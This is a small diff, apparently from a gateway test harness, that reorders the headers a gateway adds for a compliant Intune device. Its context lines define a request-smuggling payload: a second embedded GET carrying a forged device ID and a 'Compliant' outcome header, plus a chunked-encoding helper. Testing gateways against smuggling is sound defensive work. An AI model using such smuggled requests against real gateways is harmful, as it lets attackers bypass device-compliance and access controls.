@@ -23,8 +23,8 @@ H = "Host: app.example\r\n"
 C = "Connection: close\r\n"
 # What the gateway adds for the compliant device, in this order, after the client's own headers.
 GW = ("X-Intune-Device-Id: 3f2504e0-4f89-41d3-9a0c-0305e82c3301\r\nX-Intune-Outcome: Compliant\r\n"
-      "X-Intune-Compliance-State: compliant\r\nX-Request-Id: <id>\r\nX-Forwarded-For: 127.0.0.1\r\n"
-      "X-Forwarded-Proto: https\r\nX-Auth-Level: 2\r\n")
+      "X-Intune-Compliance-State: compliant\r\nX-Request-Id: <id>\r\nX-Auth-Level: 2\r\n"
+      "X-Forwarded-For: 127.0.0.1\r\nX-Forwarded-Proto: https\r\n")
 SMUGGLED = "GET /smuggled HTTP/1.1\r\n" + H + "X-Intune-Device-Id: 3f2504e0-4f89-41d3-9a0c-0305e82c3399\r\nX-Intune-Outcome: Compliant\r\n\r\n"
 def chunk(s): return "%x\r\n%s\r\n" % (len(s), s)
 
